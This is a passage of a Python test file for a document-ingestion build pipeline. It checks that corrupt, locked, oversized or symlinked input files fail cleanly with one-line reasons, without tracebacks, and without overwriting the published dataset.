        (raw / name).write_bytes(data)
    outcome = run_build(raw, tmp_path / "out")
    assert outcome.exit_code == 1
    failures = [line for line in outcome.messages if line.startswith("FAILED")]
    assert sorted(line.split(":")[0].removeprefix("FAILED ") for line in failures) == sorted(BAD_DOCUMENTS)
    for line in failures:
        assert "\n" not in line and "internal error" not in line and "Traceback" not in line
        assert ONE_LINE_REASON.match(line.split(": ", 1)[1]), line
    data = load(tmp_path / "out" / "competencies.json")
    assert [d["path"] for d in data["documents"]] == [good] and data["competencies"]


def test_nothing_usable_exits_2_without_a_traceback_and_keeps_the_published_dataset(tmp_path, capsys):
    from pipeline.cli import main

    raw = raw_folder(tmp_path)
    good_document(raw)
    out = tmp_path / "out"
    assert main(["build", str(raw), "--out", str(out), "--workers", "1", "--no-cache"]) == 0
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    shutil.rmtree(raw)
    raw = raw_folder(tmp_path)
    for name, data in BAD_DOCUMENTS.items():
        (raw / name).write_bytes(data)
    capsys.readouterr()
    assert main(["build", str(raw), "--out", str(out), "--workers", "1", "--no-cache"]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "no document could be read; nothing was published" in err
    for name in BAD_DOCUMENTS:
        (line,) = [line for line in err.splitlines() if line.strip().startswith(f"{name}: ")]
        assert ONE_LINE_REASON.match(line.strip().split(": ", 1)[1]), line
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before


def test_a_bad_document_in_a_process_pool_fails_alone(tmp_path):
    raw = raw_folder(tmp_path)
    good = good_document(raw)
    for name in ("bomb.docx", "locked.pdf", "deep.html", "scan.pdf"):
        (raw / name).write_bytes(BAD_DOCUMENTS[name])
    outcome = run_build(raw, tmp_path / "out", workers=2)
    assert outcome.exit_code == 1
    assert {d["path"]: d["status"] for d in outcome.report["documents"]} == {
        good: "ok",
        "bomb.docx": "failed",
        "locked.pdf": "failed",
        "deep.html": "failed",
        "scan.pdf": "failed",
    }


def test_build_error_when_only_refused_files(tmp_path):
    raw = raw_folder(tmp_path)
    (raw / "link.pdf").symlink_to(SEED_PDF)
    with pytest.raises(BuildError, match="no document could be read"):
        run_build(raw, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_reader_raises_only_document_error_for_the_cases_above(tmp_path):
    """The readers themselves (not only extract_document) turn every case into a DocumentError."""
    for name, data in BAD_DOCUMENTS.items():
        if not data.strip() or name in ("locked.docx", "old.docx", "text.pdf"):
            continue  # refused before any reader (empty, OLE, mislabelled)
        fmt = readers.detect_format(Path(name), data)
        with pytest.raises(DocumentError):
            readers.read(Path(name), fmt, data)


def test_seed_txt_still_reads_like_before():
    # the decoder's changes (UTF-16 without BOM, Latin-1 fallback) leave ordinary UTF-8 text alone
    for path in sorted((SEEDS / "txt").glob("*.txt")):
        data = path.read_bytes()
        assert text_reader.decode(data) == data.decode("utf-8").replace("\r\n", "\n")
